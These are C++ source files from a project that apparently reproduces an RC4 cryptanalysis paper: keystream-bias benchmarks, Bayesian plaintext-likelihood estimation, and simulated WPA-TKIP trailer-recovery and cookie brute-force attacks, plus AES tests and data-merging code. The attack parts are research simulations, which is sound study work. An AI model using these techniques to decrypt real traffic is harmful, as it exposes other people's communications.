  const ScaleFlagSpec scale{.count_flag = "keys",
                            .count_default = "0x20000000",
                            .count_help = "RC4 keys (2^29; paper used 2^47)",
                            .seed_default = "6",
                            .seed_help = "dataset seed"};
  FlagSet flags("Fig. 6: single-byte biases beyond position 256");
  DefineScaleFlags(flags, scale)
      .Define("positions", "513", "positions covered")
      .Define("grid-cache", "",
              "warm-start: load-or-store the dataset grid in this directory "
              "(docs/store.md)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const auto [keys, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  DatasetOptions options;
  options.keys = keys;
  options.workers = workers;
  options.seed = seed;
  options.interleave = interleave;
  options.kernel = kernel;
  options.cache_dir = flags.GetString("grid-cache");
  const size_t positions = flags.GetUint("positions");

  bench::PrintHeader("bench_fig6_singlebyte_beyond256",
                     "Fig. 6 (single-byte distributions past position 256) and "
                     "the Z_{256+16k} = 32k key-length biases",
                     "");

  const auto grid = GenerateSingleByteDataset(positions, options);
  const double n = static_cast<double>(grid.keys());
  const double sigma = std::sqrt((1.0 / 256) * (1 - 1.0 / 256) / n);

  // Fig. 6's snapshot positions: report the most deviant values.
  std::printf("distribution snapshots (top-3 |deviation| values per position):\n");
  std::printf("%-10s %s\n", "position", "value:probability (z)");
  for (size_t pos : {272u, 304u, 336u, 368u}) {
    if (pos > positions) {
      continue;
    }
    struct Deviation {
      int value;
      double p;
      double z;
    };
    std::vector<Deviation> deviations;
    for (int v = 0; v < 256; ++v) {
      const double p = grid.Probability(pos - 1, static_cast<uint8_t>(v));
      deviations.push_back({v, p, (p - 1.0 / 256) / sigma});
    }
    std::sort(deviations.begin(), deviations.end(),
              [](const Deviation& a, const Deviation& b) {
                return std::fabs(a.z) > std::fabs(b.z);
              });
    std::printf("%-10zu", pos);
    for (int k = 0; k < 3; ++k) {
      std::printf(" %3d:%.8f (%+.1f)", deviations[k].value, deviations[k].p,
                  deviations[k].z);
    }
    std::printf("\n");
  }

  // The paper's key-length dependent family: Z_{256+16k} = 32k, 1 <= k <= 7.
  std::printf("\nZ_{256+16k} = 32k biases (paper: positive for k = 1..7):\n");
  std::printf("%-10s %-8s %14s %8s\n", "position", "value", "rel. bias", "z");
  double pooled_z = 0.0;
  for (int k = 1; k <= 7; ++k) {
    const size_t pos = 256 + 16 * static_cast<size_t>(k);
    const uint8_t value = static_cast<uint8_t>(32 * k);
    const double p = grid.Probability(pos - 1, value);
    const double z = (p - 1.0 / 256) / sigma;
    pooled_z += z;
    std::printf("%-10zu %-8d %+14.6f %+8.2f\n", pos, value, p * 256.0 - 1.0, z);
  }
  // Fig. 6's deviations are ~1e-4 relative (y-axis span ~2^-21 absolute), so
  // the pooled detection power at this scale is tiny; print the honest
  // expectation so readers know what --keys buys.
  const double expected_pooled =
      1e-4 / (sigma * 256.0) * std::sqrt(7.0);  // per-position z ~ q/sigma_rel
  std::printf("pooled z over the 7 positions: %+.2f (paper-magnitude bias "
              "would give ~%+.2f at this key count; 4-sigma needs ~2^36 keys)\n",
              pooled_z / std::sqrt(7.0), expected_pooled);

  // Uniformity scan: how deep into the keystream do rejections reach at this
  // scale? (The paper rejects all 513 positions at 2^47 keys.)
  const auto results = ScanSingleBytes(grid);
  size_t deepest = 0;
  size_t rejected = 0;
  for (const auto& r : results) {
    if (r.biased) {
      ++rejected;
      deepest = r.position;
    }
  }
  std::printf("\nuniformity scan: %zu of %zu positions rejected (Holm, alpha=1e-4); "
              "deepest rejected position: %zu\n",
              rejected, results.size(), deepest);
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
