// Bit-exact combination of partial shard grids (docs/store.md).
//
// Merging extends the engine's thread-invariance contract to processes and
// machines: because every shard counts a disjoint slice of one globally
// indexed key stream, summing the 64-bit counter cells reproduces exactly
// the grid a single process would have produced over the whole range.
// Everything is validated before a single cell is added — checksums, format
// version, provenance compatibility, and exact key-range coverage — so a
// corrupt, foreign or missing shard is always a loud, path-qualified error;
// partial grids are never merged silently.
#ifndef SRC_STORE_MERGE_H_
#define SRC_STORE_MERGE_H_

#include <string>
#include <vector>

#include "src/store/grid_file.h"
#include "src/store/manifest.h"

namespace rc4b::store {

// Validates every shard file listed in `manifest` (resolved relative to
// `manifest_path`) and sums them into *out. The output meta covers the full
// key range; samples is the sum over shards; interleave is the shards'
// width when unanimous, 0 otherwise.
IoStatus MergeShardGrids(const Manifest& manifest,
                         const std::string& manifest_path, StoredGrid* out);

struct MergeOptions {
  // Incremental re-merge: a previously merged grid over a prefix of the
  // manifest's key range. Its cells are the starting sum and every shard it
  // already covers is skipped — so after ExtendManifestPlan grows a
  // campaign, only the new shards' files need to exist (or be regenerated).
  // The base must match the dataset, start at the manifest's key_begin, and
  // end exactly on a shard boundary.
  const StoredGrid* base = nullptr;
  // Degraded (partial) merge: a shard whose file is missing or fails
  // validation is recorded in MergeOutcome::missing instead of failing the
  // merge. The output meta still declares the full key range but `samples`
  // honestly counts only what was merged — callers must surface the outcome
  // loudly (the campaign tool writes a quarantine report and exits nonzero).
  bool allow_missing = false;
};

struct MergeOutcome {
  struct MissingShard {
    uint32_t index = 0;
    std::string path;
    std::string error;
  };
  std::vector<uint32_t> merged;   // shard indices summed into the output
  std::vector<uint32_t> skipped;  // already covered by MergeOptions::base
  std::vector<MissingShard> missing;  // only with allow_missing
};

// MergeShardGrids with incremental-base and partial-merge handling;
// `outcome` may be null.
IoStatus MergeShardGridsEx(const Manifest& manifest,
                           const std::string& manifest_path,
                           const MergeOptions& options, StoredGrid* out,
                           MergeOutcome* outcome);

// Same-dataset + same-range + identical samples and cells (merge and
// kill/resume round-trip checks; the informational interleave width is
// ignored). Returns a diagnostic naming the first difference.
IoStatus CheckGridsEqual(const StoredGrid& a, const StoredGrid& b,
                         const std::string& a_name, const std::string& b_name);

}  // namespace rc4b::store

#endif  // SRC_STORE_MERGE_H_
