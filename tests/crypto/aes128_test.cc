#include "src/crypto/aes128.h"

#include <gtest/gtest.h>

#include "src/common/bytes.h"

namespace rc4b {
namespace {

// FIPS-197 Appendix C.1 known-answer vector.
TEST(Aes128Test, Fips197Vector) {
  const Bytes key = FromHex("000102030405060708090a0b0c0d0e0f");
  const Bytes plaintext = FromHex("00112233445566778899aabbccddeeff");
  Aes128 aes(key);
  uint8_t out[16];
  aes.EncryptBlock(plaintext.data(), out);
  EXPECT_EQ(ToHex(std::span<const uint8_t>(out, 16)),
            "69c4e0d86a7b0430d8cdb78070b4c55a");
}

// FIPS-197 Appendix B worked example.
TEST(Aes128Test, Fips197AppendixB) {
  const Bytes key = FromHex("2b7e151628aed2a6abf7158809cf4f3c");
  const Bytes plaintext = FromHex("3243f6a8885a308d313198a2e0370734");
  Aes128 aes(key);
  uint8_t out[16];
  aes.EncryptBlock(plaintext.data(), out);
  EXPECT_EQ(ToHex(std::span<const uint8_t>(out, 16)),
            "3925841d02dc09fbdc118597196a0b32");
}

TEST(Aes128Test, SBoxKnownEntries) {
  const auto& sbox = Aes128::SBox();
  EXPECT_EQ(sbox[0x00], 0x63);
  EXPECT_EQ(sbox[0x01], 0x7c);
  EXPECT_EQ(sbox[0x53], 0xed);
  EXPECT_EQ(sbox[0xff], 0x16);
}

TEST(Aes128Test, SBoxIsPermutation) {
  const auto& sbox = Aes128::SBox();
  std::array<int, 256> seen{};
  for (int i = 0; i < 256; ++i) {
    ++seen[sbox[i]];
  }
  for (int i = 0; i < 256; ++i) {
    EXPECT_EQ(seen[i], 1) << "value " << i;
  }
}

TEST(Aes128Test, InPlaceEncryption) {
  const Bytes key = FromHex("000102030405060708090a0b0c0d0e0f");
  Bytes block = FromHex("00112233445566778899aabbccddeeff");
  Aes128 aes(key);
  aes.EncryptBlock(block.data(), block.data());
  EXPECT_EQ(ToHex(block), "69c4e0d86a7b0430d8cdb78070b4c55a");
}

TEST(Aes128CtrTest, DeterministicAndSeekable) {
  const Bytes key = FromHex("2b7e151628aed2a6abf7158809cf4f3c");
  Aes128Ctr a(key);
  Bytes first(48);
  a.Generate(first);

  Aes128Ctr b(key);
  Bytes again(48);
  b.Generate(again);
  EXPECT_EQ(first, again);

  // Seek to block 1 (byte offset 16) and compare.
  Aes128Ctr c(key);
  c.Seek(1);
  Bytes tail(32);
  c.Generate(tail);
  EXPECT_EQ(Bytes(first.begin() + 16, first.end()), tail);
}

TEST(Aes128CtrTest, UnalignedReadsMatchAlignedStream) {
  const Bytes key = FromHex("000102030405060708090a0b0c0d0e0f");
  Aes128Ctr a(key);
  Bytes aligned(64);
  a.Generate(aligned);

  Aes128Ctr b(key);
  Bytes pieces;
  for (size_t chunk : {3u, 7u, 16u, 1u, 21u, 16u}) {
    Bytes piece(chunk);
    b.Generate(piece);
    pieces.insert(pieces.end(), piece.begin(), piece.end());
  }
  EXPECT_EQ(Bytes(aligned.begin(), aligned.begin() + pieces.size()), pieces);
}

TEST(Aes128CtrTest, DistinctBlocksDiffer) {
  const Bytes key = FromHex("000102030405060708090a0b0c0d0e0f");
  Aes128Ctr ctr(key);
  Bytes b1(16), b2(16);
  ctr.Generate(b1);
  ctr.Generate(b2);
  EXPECT_NE(b1, b2);
}

}  // namespace
}  // namespace rc4b
