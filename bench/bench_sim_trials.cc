// Perf trajectory for the src/sim/ trial-parallel simulation subsystem:
// TKIP-attack trials per second with 1 worker vs all cores, plus a re-check
// of the worker-count bit-exactness contract (docs/sim.md) on every run —
// mirroring what bench_engine_sharded does for the keystream engine.
//
// Note: this box may have few cores; read scaling factors off multi-core CI
// hardware (the manual perf job uploads this output as an artifact).
#include <chrono>
#include <cstdio>
#include <vector>

#include "bench/harness.h"
#include "src/common/flags.h"
#include "src/common/thread_pool.h"
#include "src/sim/cookie_sim.h"
#include "src/sim/tkip_sim.h"

namespace rc4b {
namespace {

double Seconds(const std::chrono::steady_clock::time_point& begin) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - begin)
      .count();
}

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{
      .count_flag = "trials",
      .count_default = "8",
      .count_help = "simulated TKIP attacks per run",
      .workers_flag = "threads",
      .workers_help = "worker count for the parallel run (0 = all)",
      .seed_default = "21"};
  FlagSet flags("src/sim trial throughput, 1 worker vs all cores");
  DefineScaleFlags(flags, scale)
      .Define("checkpoint", "0x4000", "packets captured per trial")
      .Define("keys-per-tsc", "0x400", "model keys per TSC1 class")
      .Define("cookie-trials", "8", "simulated cookie attacks per run")
      .Define("cookie-ciphertexts", "0x8000000", "captured requests (2^27)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }
  const auto [trial_count, parsed_threads, seed, interleave, kernel] =
      GetScaleFlags(flags, scale);
  (void)interleave;  // no keystream-engine stage in this sim-only bench
  (void)kernel;

  bench::PrintHeader("bench_sim_trials",
                     "Sect. 5/6 Monte-Carlo simulations (Figs. 7-10 substrate)",
                     "trials/s, 1 worker vs all cores; every run re-checks "
                     "that aggregates are bit-exact across worker counts");
  bench::JsonTrajectory json("sim_trials");

  const Bytes msdu = sim::InjectedPacket();
  TkipTscModel model(msdu.size() + 1, msdu.size() + kTkipTrailerSize);
  model.Generate(flags.GetUint("keys-per-tsc"), seed + 1);

  sim::TkipSimOptions options;
  options.checkpoints = {flags.GetUint("checkpoint")};
  options.trials = trial_count;
  options.seed = seed;

  const unsigned all =
      parsed_threads != 0 ? parsed_threads : DefaultWorkerCount();

  std::printf("\nTKIP trailer-recovery simulation (%llu trials, checkpoint "
              "%llu packets):\n",
              static_cast<unsigned long long>(options.trials),
              static_cast<unsigned long long>(options.checkpoints[0]));
  options.workers = 1;
  auto begin = std::chrono::steady_clock::now();
  const auto serial = sim::RunTkipSimulations(model, options);
  const double serial_s = Seconds(begin);
  options.workers = all;
  begin = std::chrono::steady_clock::now();
  const auto parallel = sim::RunTkipSimulations(model, options);
  const double parallel_s = Seconds(begin);
  std::printf("  1 worker : %8.2f trials/s\n",
              static_cast<double>(options.trials) / serial_s);
  std::printf("  %2u workers: %8.2f trials/s (%.2fx)\n", all,
              static_cast<double>(options.trials) / parallel_s,
              serial_s / parallel_s);
  json.Add("threads", static_cast<uint64_t>(all));
  json.Add("tkip_trials", options.trials);
  json.Add("tkip_serial_trials_per_s",
           static_cast<double>(options.trials) / serial_s);
  json.Add("tkip_parallel_trials_per_s",
           static_cast<double>(options.trials) / parallel_s);
  if (!(serial == parallel)) {
    std::printf("  BIT-EXACTNESS VIOLATION: 1-worker and %u-worker aggregates "
                "differ\n",
                all);
    return 1;
  }
  std::printf("  aggregates bit-exact across worker counts: OK\n");

  sim::CookieSimOptions cookie_options;
  cookie_options.trials = flags.GetUint("cookie-trials");
  cookie_options.seed = seed;
  const uint64_t ciphertexts = flags.GetUint("cookie-ciphertexts");

  std::printf("\ncookie brute-force simulation (%llu trials, %llu "
              "ciphertexts):\n",
              static_cast<unsigned long long>(cookie_options.trials),
              static_cast<unsigned long long>(ciphertexts));
  sim::CookieSimOptions serial_options = cookie_options;
  serial_options.workers = 1;
  const sim::CookieSimContext serial_context(serial_options);
  begin = std::chrono::steady_clock::now();
  const auto cookie_serial = sim::RunCookieSimulations(serial_context, ciphertexts);
  const double cookie_serial_s = Seconds(begin);
  sim::CookieSimOptions parallel_options = cookie_options;
  parallel_options.workers = all;
  const sim::CookieSimContext parallel_context(parallel_options);
  begin = std::chrono::steady_clock::now();
  const auto cookie_parallel =
      sim::RunCookieSimulations(parallel_context, ciphertexts);
  const double cookie_parallel_s = Seconds(begin);
  std::printf("  1 worker : %8.2f trials/s\n",
              static_cast<double>(cookie_options.trials) / cookie_serial_s);
  std::printf("  %2u workers: %8.2f trials/s (%.2fx)\n", all,
              static_cast<double>(cookie_options.trials) / cookie_parallel_s,
              cookie_serial_s / cookie_parallel_s);
  json.Add("cookie_trials", cookie_options.trials);
  json.Add("cookie_serial_trials_per_s",
           static_cast<double>(cookie_options.trials) / cookie_serial_s);
  json.Add("cookie_parallel_trials_per_s",
           static_cast<double>(cookie_options.trials) / cookie_parallel_s);
  if (!(cookie_serial == cookie_parallel)) {
    std::printf("  BIT-EXACTNESS VIOLATION: 1-worker and %u-worker aggregates "
                "differ\n",
                all);
    return 1;
  }
  std::printf("  aggregates bit-exact across worker counts: OK\n");
  json.Write();
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
