// Shared Fig. 8 / Fig. 9 simulation harness: real TKIP key mixing + RC4 per
// injected packet, per-TSC1 attacker model, rank computation at checkpoint
// ciphertext counts, and a geometric model of CRC-32 false positives.
#ifndef BENCH_TKIP_SIM_H_
#define BENCH_TKIP_SIM_H_

#include <cstdint>
#include <optional>
#include <vector>

#include "src/common/rng.h"
#include "src/core/rank.h"
#include "src/net/packet.h"
#include "src/tkip/attack.h"
#include "src/tkip/injection.h"
#include "src/tkip/tsc_model.h"

namespace rc4b::bench {

struct TkipSimOptions {
  std::vector<uint64_t> checkpoints;  // packet counts at which to evaluate
  uint64_t candidate_budget = uint64_t{1} << 30;  // "nearly 2^30 candidates"
  uint64_t seed = 1;
  // true: perfect-model limit (victim trailer keystream drawn from the
  // attacker's model; see ModelVictimSource). false: real TKIP key mixing +
  // RC4 — honest, but the scaled-down attacker model then needs
  // --keys-per-tsc near 2^28 per class to carry signal (DESIGN.md).
  bool oracle_model = true;
};

struct TkipSimPoint {
  uint64_t packets = 0;
  double truth_rank = 0.0;       // rank of true trailer among all 2^96
  double first_icv_position = 0.0;  // min(rank, CRC false positive draw)
  bool success_with_budget = false;  // truth found before budget & any false hit
  bool success_with_two = false;     // truth within the two best candidates
};

// Builds the attack's injected packet: 48 bytes of headers + 7-byte payload
// (Sect. 5.2's optimal structure).
inline Bytes InjectedPacket() {
  Ipv4Header ip;
  ip.source = 0xc0a80164;
  ip.destination = 0x5db8d822;
  ip.ttl = 64;
  TcpHeader tcp;
  tcp.source_port = 80;
  tcp.destination_port = 52341;
  return BuildTcpPacket(LlcSnapHeader{}, ip, tcp, FromString("7bytes!"));
}

// Runs one simulated attack: a victim retransmitting the packet under
// incrementing TSCs, the attacker accumulating per-TSC1 statistics, and rank
// evaluations at each checkpoint.
inline std::vector<TkipSimPoint> RunTkipSimulation(const TkipTscModel& model,
                                                   const TkipSimOptions& options,
                                                   uint64_t sim_index) {
  Xoshiro256 rng(options.seed * 2654435761 + sim_index);
  TkipPeer peer;
  rng.Fill(peer.tk);
  peer.mic_key = MichaelKey{static_cast<uint32_t>(rng()), static_cast<uint32_t>(rng())};
  rng.Fill(peer.ta);
  rng.Fill(peer.da);
  rng.Fill(peer.sa);

  const Bytes msdu = InjectedPacket();
  const Bytes trailer = TkipTrailer(peer, msdu);
  const size_t first = msdu.size() + 1;
  const size_t last = msdu.size() + kTkipTrailerSize;

  TkipCaptureStats stats(first, last);
  // Randomize the TSC starting point across simulations.
  const uint64_t initial_tsc = rng() & 0xffffffff;
  Bytes plaintext = msdu;
  plaintext.insert(plaintext.end(), trailer.begin(), trailer.end());
  std::optional<ModelVictimSource> model_source;
  std::optional<TkipInjectionSource> real_source;
  if (options.oracle_model) {
    model_source.emplace(model, plaintext, initial_tsc, rng());
  } else {
    real_source.emplace(peer, msdu, initial_tsc);
  }
  const auto next_frame = [&] {
    return options.oracle_model ? model_source->NextFrame()
                                : real_source->NextFrame();
  };

  std::vector<TkipSimPoint> points;
  uint64_t sent = 0;
  for (uint64_t checkpoint : options.checkpoints) {
    while (sent < checkpoint) {
      stats.AddFrame(next_frame());
      ++sent;
    }
    const auto tables = TkipTrailerLikelihoods(stats, model);
    const auto bracket = IndependentRank(tables, trailer);

    TkipSimPoint point;
    point.packets = checkpoint;
    point.truth_rank = bracket.estimate();
    // CRC-32 false positives: candidates ahead of the truth pass the ICV
    // check with probability 2^-32 each. Model the first false hit as a
    // geometric draw (paper Sect. 5.4 observed exactly this failure mode).
    const double u = rng.UnitDouble();
    const double false_hit = -std::log(std::max(u, 1e-300)) * 4294967296.0;
    point.first_icv_position = std::min(point.truth_rank, false_hit);
    point.success_with_budget =
        point.truth_rank <= false_hit &&
        point.truth_rank < static_cast<double>(options.candidate_budget);
    point.success_with_two = point.truth_rank < 2.0;
    points.push_back(point);
  }
  return points;
}

}  // namespace rc4b::bench

#endif  // BENCH_TKIP_SIM_H_
