#include "src/stats/counters.h"

#include <cassert>

namespace rc4b {

void SingleByteGrid::Merge(const SingleByteGrid& other) {
  assert(positions_ == other.positions_);
  for (size_t i = 0; i < counts_.size(); ++i) {
    counts_[i] += other.counts_[i];
  }
  keys_ += other.keys_;
}

void SingleByteGrid::MergeCells(std::span<const uint64_t> cells, uint64_t keys) {
  assert(cells.size() == counts_.size());
  for (size_t i = 0; i < counts_.size(); ++i) {
    counts_[i] += cells[i];
  }
  keys_ += keys;
}

void SingleByteGrid::MergeCounts32(std::span<const uint32_t> local, uint64_t keys) {
  assert(local.size() == counts_.size());
  for (size_t i = 0; i < counts_.size(); ++i) {
    counts_[i] += local[i];
  }
  keys_ += keys;
}

bool operator==(const SingleByteGrid& a, const SingleByteGrid& b) {
  return a.positions_ == b.positions_ && a.keys_ == b.keys_ &&
         a.counts_ == b.counts_;
}

void DigraphGrid::Merge(const DigraphGrid& other) {
  assert(positions_ == other.positions_);
  for (size_t i = 0; i < counts_.size(); ++i) {
    counts_[i] += other.counts_[i];
  }
  keys_ += other.keys_;
}

void DigraphGrid::MergeCells(std::span<const uint64_t> cells, uint64_t keys) {
  assert(cells.size() == counts_.size());
  for (size_t i = 0; i < counts_.size(); ++i) {
    counts_[i] += cells[i];
  }
  keys_ += keys;
}

void DigraphGrid::MergeCounts32(std::span<const uint32_t> local, uint64_t keys) {
  assert(local.size() == counts_.size());
  for (size_t i = 0; i < counts_.size(); ++i) {
    counts_[i] += local[i];
  }
  keys_ += keys;
}

bool operator==(const DigraphGrid& a, const DigraphGrid& b) {
  return a.positions_ == b.positions_ && a.keys_ == b.keys_ &&
         a.counts_ == b.counts_;
}

double DigraphGrid::MarginalFirst(size_t pos, uint8_t v) const {
  uint64_t sum = 0;
  const auto row = Row(pos);
  const size_t base = static_cast<size_t>(v) * 256;
  for (size_t y = 0; y < 256; ++y) {
    sum += row[base + y];
  }
  return static_cast<double>(sum) / static_cast<double>(keys_);
}

double DigraphGrid::MarginalSecond(size_t pos, uint8_t v) const {
  uint64_t sum = 0;
  const auto row = Row(pos);
  for (size_t x = 0; x < 256; ++x) {
    sum += row[x * 256 + v];
  }
  return static_cast<double>(sum) / static_cast<double>(keys_);
}

void WorkerTile::FlushInto(std::span<uint64_t> out) {
  assert(out.size() == counts_.size());
  for (size_t i = 0; i < counts_.size(); ++i) {
    out[i] += counts_[i];
    counts_[i] = 0;
  }
}

void WorkerTile::FlushInto(std::span<uint32_t> out) {
  assert(out.size() == counts_.size());
  for (size_t i = 0; i < counts_.size(); ++i) {
    out[i] += counts_[i];
    counts_[i] = 0;
  }
}

}  // namespace rc4b
