// 256-bit transposed-lane RC4 kernel (32 lanes per group). Compiled with
// -mavx2 (see CMakeLists.txt); runtime dispatch only selects it when cpuid
// reports AVX2. One __m256i row holds byte v of all 32 lanes, so the j
// update and both index adds cover 32 streams per instruction; the swap's
// lane-divergent column accesses stay scalar (see kernel_lanes.h for why).
// Without AVX2 at compile time (-mno-avx2 fallback build, or a non-x86
// target) the TU degrades to a stub the registry reports as not compiled in.
#include <memory>

#include "src/rc4/kernel.h"

#if defined(__AVX2__)

#include <immintrin.h>

#include "src/rc4/kernel_lanes.h"

namespace rc4b {
namespace {

struct Avx256 {
  static constexpr size_t kWidth = 32;
  using Reg = __m256i;
  static Reg Load(const uint8_t* p) {
    return _mm256_load_si256(reinterpret_cast<const __m256i*>(p));
  }
  static void Store(uint8_t* p, Reg v) {
    _mm256_store_si256(reinterpret_cast<__m256i*>(p), v);
  }
  static Reg Add8(Reg a, Reg b) { return _mm256_add_epi8(a, b); }
  static Reg Zero() { return _mm256_setzero_si256(); }
  static Reg Set1(uint8_t v) { return _mm256_set1_epi8(static_cast<char>(v)); }
};

}  // namespace

bool Avx2KernelCompiled() { return true; }

std::unique_ptr<Rc4LaneKernel> MakeAvx2Kernel(size_t width) {
  if (width != Avx256::kWidth) {
    return nullptr;
  }
  return std::make_unique<TransposedLaneKernel<Avx256>>();
}

}  // namespace rc4b

#else  // !defined(__AVX2__)

namespace rc4b {

bool Avx2KernelCompiled() { return false; }

std::unique_ptr<Rc4LaneKernel> MakeAvx2Kernel(size_t /*width*/) { return nullptr; }

}  // namespace rc4b

#endif  // defined(__AVX2__)
