// Bayesian plaintext likelihood estimation (Sect. 4.1–4.3 of the paper).
//
// All likelihoods are computed and combined in the log domain for numeric
// stability, as the paper recommends. Conventions:
//   * A "single-byte table" is 256 log-likelihoods lambda_mu.
//   * A "double-byte table" is 65536 log-likelihoods lambda_{mu1,mu2} indexed
//     mu1 * 256 + mu2.
//   * Ciphertext statistics are raw counts: how often each ciphertext byte
//     (or byte pair / differential pair) value was observed.
#ifndef SRC_CORE_LIKELIHOOD_H_
#define SRC_CORE_LIKELIHOOD_H_

#include <cstdint>
#include <span>
#include <vector>

#include "src/biases/fluhrer_mcgrew.h"

namespace rc4b {

// Elementwise log() of a probability vector (any size).
std::vector<double> LogProbabilities(std::span<const double> probabilities);

// Single-byte likelihood, formula (11)/(12):
//   lambda_mu = sum_c counts[c] * log_p[c XOR mu].
// `counts[c]` is the number of ciphertexts whose byte at this position is c;
// `log_p` is the (log) keystream distribution at this position.
std::vector<double> SingleByteLogLikelihood(std::span<const uint64_t> counts,
                                            std::span<const double> log_p);

// Dense double-byte likelihood, formula (13): counts and log_p are 65536-cell
// tables indexed c1 * 256 + c2 / k1 * 256 + k2. O(2^32); used for validation.
std::vector<double> DoubleByteLogLikelihoodDense(std::span<const uint64_t> counts,
                                                 std::span<const double> log_p);

// Sparse double-byte likelihood, the optimization of formula (15): all
// keystream pairs share probability `u` except for the `biased_cells`.
// Only O(|biased| * 2^16) work — ~2^19 for the Fluhrer–McGrew set, matching
// the paper's complexity claim.
std::vector<double> DoubleByteLogLikelihoodSparse(std::span<const uint64_t> counts,
                                                  uint64_t total,
                                                  const SparseDigraphModel& model);

// ABSAB differential likelihood, formulas (20)–(24). `diff_counts[d]` counts
// ciphertext differentials with value d (= d1 * 256 + d2); `known` is the
// known plaintext pair (mu'1 * 256 + mu'2); `alpha` = AbsabAlpha(gap).
// Returns a double-byte table over the *unknown* pair (mu1, mu2).
std::vector<double> AbsabLogLikelihood(std::span<const uint64_t> diff_counts,
                                       uint64_t total, uint16_t known, double alpha);

// Combines likelihood estimates from multiple bias types by adding their log
// tables — formula (25). Tables must have equal size.
void CombineInPlace(std::span<double> accumulator, std::span<const double> other);

// argmax index of a table.
size_t ArgMax(std::span<const double> table);

}  // namespace rc4b

#endif  // SRC_CORE_LIKELIHOOD_H_
