#include "src/core/rank.h"

#include <algorithm>

#include <gtest/gtest.h>

#include "src/common/rng.h"

namespace rc4b {
namespace {

SingleByteTables RandomTables(size_t length, uint64_t seed) {
  Xoshiro256 rng(seed);
  SingleByteTables tables(length, std::vector<double>(256));
  for (auto& table : tables) {
    for (auto& v : table) {
      v = -rng.UnitDouble() * 8.0;
    }
  }
  return tables;
}

// Exact rank by exhaustive enumeration (2 positions: 65536 candidates).
uint64_t ExhaustiveRank(const SingleByteTables& tables, std::span<const uint8_t> truth) {
  double truth_score = 0.0;
  for (size_t r = 0; r < tables.size(); ++r) {
    truth_score += tables[r][truth[r]];
  }
  uint64_t rank = 0;
  for (int a = 0; a < 256; ++a) {
    for (int b = 0; b < 256; ++b) {
      const double s = tables[0][a] + tables[1][b];
      if (s > truth_score) {
        ++rank;
      }
    }
  }
  return rank;
}

TEST(IndependentRankTest, BracketsExhaustiveRank) {
  for (uint64_t seed = 1; seed <= 5; ++seed) {
    const auto tables = RandomTables(2, seed);
    Xoshiro256 rng(100 + seed);
    const std::vector<uint8_t> truth = {rng.Byte(), rng.Byte()};
    const uint64_t exact = ExhaustiveRank(tables, truth);
    const auto bracket = IndependentRank(tables, truth, 1 << 15);
    EXPECT_LE(bracket.lower, static_cast<double>(exact) * 1.001 + 2) << "seed " << seed;
    EXPECT_GE(bracket.upper + 2, static_cast<double>(exact) * 0.999) << "seed " << seed;
  }
}

TEST(IndependentRankTest, BestCandidateHasRankZero) {
  const auto tables = RandomTables(8, 11);
  std::vector<uint8_t> best(8);
  for (size_t r = 0; r < 8; ++r) {
    best[r] = static_cast<uint8_t>(
        std::max_element(tables[r].begin(), tables[r].end()) - tables[r].begin());
  }
  const auto bracket = IndependentRank(tables, best);
  EXPECT_DOUBLE_EQ(bracket.lower, 0.0);
  EXPECT_LE(bracket.upper, 2.0);  // quantization may pull in near-ties
}

TEST(IndependentRankTest, WorstCandidateHasHugeRank) {
  const auto tables = RandomTables(6, 12);
  std::vector<uint8_t> worst(6);
  for (size_t r = 0; r < 6; ++r) {
    worst[r] = static_cast<uint8_t>(
        std::min_element(tables[r].begin(), tables[r].end()) - tables[r].begin());
  }
  const auto bracket = IndependentRank(tables, worst);
  // 256^6 = 2^48 candidates; the worst one is near the bottom.
  EXPECT_GT(bracket.estimate(), 1e12);
}

TEST(IndependentRankTest, RankGrowsWhenTruthScoreDrops) {
  auto tables = RandomTables(4, 13);
  const std::vector<uint8_t> truth = {1, 2, 3, 4};
  // Make the truth progressively worse and require monotone rank growth.
  double prev = -1.0;
  for (double penalty : {0.0, 0.5, 1.0, 2.0}) {
    auto modified = tables;
    for (size_t r = 0; r < 4; ++r) {
      modified[r][truth[r]] -= penalty;
    }
    const double rank = IndependentRank(modified, truth).estimate();
    EXPECT_GE(rank, prev);
    prev = rank;
  }
}

DoubleByteTables RandomTransitions(size_t count, uint64_t seed) {
  Xoshiro256 rng(seed);
  DoubleByteTables tables(count, std::vector<double>(65536));
  for (auto& table : tables) {
    for (auto& v : table) {
      v = -rng.UnitDouble() * 4.0;
    }
  }
  return tables;
}

// Exhaustive Markov rank over a small alphabet.
uint64_t ExhaustiveMarkovRank(const DoubleByteTables& transitions, uint8_t m1,
                              uint8_t m_last, std::span<const uint8_t> truth,
                              std::span<const uint8_t> alphabet) {
  const size_t inner = truth.size();
  double truth_score = transitions[0][static_cast<size_t>(m1) * 256 + truth[0]];
  for (size_t t = 1; t < inner; ++t) {
    truth_score +=
        transitions[t][static_cast<size_t>(truth[t - 1]) * 256 + truth[t]];
  }
  truth_score +=
      transitions[inner][static_cast<size_t>(truth[inner - 1]) * 256 + m_last];

  uint64_t rank = 0;
  std::vector<size_t> idx(inner, 0);
  while (true) {
    double score = transitions[0][static_cast<size_t>(m1) * 256 + alphabet[idx[0]]];
    for (size_t t = 1; t < inner; ++t) {
      score += transitions[t][static_cast<size_t>(alphabet[idx[t - 1]]) * 256 +
                              alphabet[idx[t]]];
    }
    score += transitions[inner][static_cast<size_t>(alphabet[idx[inner - 1]]) * 256 +
                                m_last];
    if (score > truth_score) {
      ++rank;
    }
    size_t pos = 0;
    while (pos < inner && ++idx[pos] == alphabet.size()) {
      idx[pos] = 0;
      ++pos;
    }
    if (pos == inner) {
      break;
    }
  }
  return rank;
}

TEST(MarkovRankTest, BracketsExhaustiveRank) {
  const std::vector<uint8_t> alphabet = {'a', 'b', 'c', 'd', 'e', 'f'};
  for (uint64_t seed = 20; seed <= 23; ++seed) {
    const auto transitions = RandomTransitions(5, seed);  // 4 unknown bytes
    Xoshiro256 rng(seed);
    std::vector<uint8_t> truth(4);
    for (auto& b : truth) {
      b = alphabet[rng.Below(alphabet.size())];
    }
    const uint64_t exact =
        ExhaustiveMarkovRank(transitions, 'X', 'Y', truth, alphabet);
    const auto bracket = MarkovRank(transitions, 'X', 'Y', truth, alphabet, 1 << 14);
